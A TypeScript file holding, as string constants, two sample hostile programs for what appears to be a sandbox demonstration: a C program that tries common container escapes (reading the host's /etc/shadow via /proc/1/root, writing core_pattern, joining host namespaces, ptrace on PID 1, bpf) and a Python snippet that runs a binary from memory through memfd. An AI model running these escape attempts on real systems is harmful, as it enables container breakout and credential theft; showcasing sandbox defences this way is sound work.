// The sources of the tour's two hostile programs. They try; in the sandbox none of it succeeds.

/** What hides behind `./main`: the usual ways out of a container, then a busy loop until stopped. */
export const compiledEscape = `#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

int main(void) {
  open("/proc/1/root/etc/shadow", O_RDONLY);
  open("/proc/sys/kernel/core_pattern", O_WRONLY);
  setns(open("/proc/1/ns/net", O_RDONLY), 0);
  mount("none", "/mnt", "tmpfs", 0, 0);
  ptrace(PTRACE_ATTACH, 1, 0, 0);
  unshare(CLONE_NEWUSER | CLONE_NEWNS);
  syscall(SYS_bpf, 0, 0, 0);
  for (time_t end = time(0) + 20; time(0) < end;)
    ;
  return 0;
}
`;

/** Copies a program into a memfd and executes it from there (MITRE ATT&CK T1620). */
export const memoryRunner = `import os, sys
memory = os.memfd_create("cache", 0)
with open("/usr/bin/id", "rb") as program:
    os.write(memory, program.read())
child = os.fork()
if child == 0:
    os.execve(memory, ["id"], {})
os.waitpid(child, 0)
`;
